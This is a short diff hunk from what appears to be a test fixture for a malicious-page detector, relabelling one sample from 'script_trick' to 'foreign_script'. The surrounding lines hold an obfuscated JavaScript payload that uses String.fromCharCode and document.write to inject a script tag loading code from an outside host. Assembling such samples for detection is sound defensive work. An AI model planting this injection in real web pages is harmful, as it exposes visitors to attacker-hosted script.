@@ -151,7 +151,7 @@ def drawn_guilty() -> None:
         "page_defaced",
     )
     halves = 'document.write(String.fromCharCode(60,83,67,82,73,80,84));document.write(\' src="http://u.lmad-88.example/mb/t.js?sid=2100" type="text/javascript">\');document.write(String.fromCharCode(60,47,83,67,82,73,80,84,62));'
-    put(DRAWN, "tag_of_a_script_by_its_codes", home(script(halves)), "script_trick")
+    put(DRAWN, "tag_of_a_script_by_its_codes", home(script(halves)), "foreign_script")
     put(
         DRAWN,
         "atob_run_at_the_end",
